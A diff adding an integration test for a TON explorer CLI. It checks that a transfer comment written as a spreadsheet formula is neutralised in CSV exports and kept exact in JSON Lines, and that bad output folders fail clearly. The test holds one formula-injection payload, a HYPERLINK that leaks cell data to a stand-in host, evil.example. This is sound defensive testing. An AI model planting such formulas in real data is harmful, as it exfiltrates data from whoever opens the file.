@@ -1,0 +1,133 @@
+import { Address, internal } from '@ton/core';
+import { existsSync } from 'node:fs';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { main as cli, type CliIo } from '../../electron/cli/main';
+import { MemoryVault } from '../../electron/services/vault';
+import { readCsv, readJsonl } from '../helpers/export-reference';
+import { startLocalnet, type StartedLocalnet } from '../helpers/localnet';
+import { signTransfer } from '../helpers/sign-transfer';
+
+/**
+ * Exports of hostile on-chain text and careless destinations, through the CLI against the
+ * local network: a transfer comment that is a spreadsheet formula is neutralised in CSV and
+ * kept exact in JSON Lines; an `--out` whose folder cannot exist fails at once and clearly.
+ */
+
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+
+interface DemoWalletDoc {
+  name: string;
+  address: string;
+  mnemonic: string;
+}
+
+let ln: StartedLocalnet;
+let dir: string;
+let wallets: Record<string, DemoWalletDoc>;
+
+function io(): CliIo & { stdout: string[]; stderr: string[] } {
+  const stdout: string[] = [];
+  const stderr: string[] = [];
+  return {
+    stdout,
+    stderr,
+    out: (s) => void stdout.push(s),
+    err: (s) => void stderr.push(s),
+    readKey: async () => '',
+    env: { TON_EXPLORER_LOCALNET_V2_URL: ln.v2Url, TON_EXPLORER_LOCALNET_V3_URL: ln.v3Url },
+    vault: new MemoryVault(),
+  };
+}
+
+const exportArgs = (format: string, out: string) => [
+  '--user-data',
+  dir,
+  'export',
+  'local',
+  '--account',
+  wallets.alice!.address,
+  '--kind',
+  'ton-transfers',
+  '--format',
+  format,
+  '--out',
+  out,
+];
+
+beforeAll(async () => {
+  ln = await startLocalnet({ blockIntervalMs: 300 });
+  wallets = Object.fromEntries((ln.accounts.wallets as DemoWalletDoc[]).map((w) => [w.name, w]));
+  dir = await mkdtemp(join(tmpdir(), 'export-hostile-'));
+}, 300_000);
+
+afterAll(async () => {
+  await ln?.close();
+  if (dir) await rm(dir, { recursive: true, force: true });
+});
+
+describe('a formula comment on chain', () => {
+  it('is text in the CSV (prefixed with an apostrophe), exact in JSON Lines; amounts stay numbers', async () => {
+    const seqno = await ln.net.blockchain.runGetMethod(
+      Address.parse(wallets.alice!.address),
+      'seqno',
+    );
+    const { boc } = await signTransfer({
+      mnemonic: wallets.alice!.mnemonic,
+      version: 'v4R2',
+      seqno: Number(seqno.stackReader.readBigNumber()),
+      validUntil: Math.floor(Date.now() / 1000) + 600,
+      messages: [
+        internal({
+          to: Address.parse(wallets.bob!.address),
+          value: 100_000_000n,
+          bounce: false,
+          body: FORMULA,
+        }),
+      ],
+    });
+    const bocFile = join(dir, 'formula.boc');
+    await writeFile(bocFile, boc);
+    const sent = io();
+    expect(await cli(['--user-data', dir, 'send', 'local', '--boc', bocFile, '--yes'], sent)).toBe(
+      0,
+    );
+
+    const csv = join(dir, 'alice.csv');
+    const run = io();
+    expect(await cli(exportArgs('csv', csv), run), run.stderr.join('\n')).toBe(0);
+    const rows = await readCsv(csv);
+    const row = rows.find((r) => r.comment?.includes('HYPERLINK'));
+    expect(row?.comment).toBe(`'${FORMULA}`);
+    // The outgoing amount is a number (negative or not), never turned into text.
+    expect(row?.amount).toMatch(/^-?\d+(\.\d+)?$/);
+    expect(rows.every((r) => !/^[=+@\t\r]/.test(r.comment ?? ''))).toBe(true);
+
+    const jsonl = join(dir, 'alice.jsonl');
+    expect(await cli(exportArgs('jsonl', jsonl), io())).toBe(0);
+    const exact = (await readJsonl(jsonl)).find((r) => r.comment?.includes('HYPERLINK'));
+    expect(exact?.comment).toBe(FORMULA);
+  }, 300_000);
+});
+
+describe('export --out', () => {
+  it('fails at once with a clear error under a folder that cannot be created', async () => {
+    const run = io();
+    const code = await cli(exportArgs('csv', '/proc/ton-explorer/alice.csv'), run);
+    expect(code).toBe(1);
+    expect(run.stderr.join('\n')).toMatch(
+      /ERROR INVALID_INPUT: .*folder \/proc\/ton-explorer does not exist/,
+    );
+  }, 60_000);
+
+  it('does not create a missing parent folder; says which one is missing', async () => {
+    const missing = join(dir, 'no-such-folder');
+    const run = io();
+    const code = await cli(exportArgs('csv', join(missing, 'alice.csv')), run);
+    expect(code).toBe(1);
+    expect(run.stderr.join('\n')).toContain(`folder ${missing} does not exist`);
+    expect(existsSync(missing)).toBe(false);
+  }, 60_000);
+});
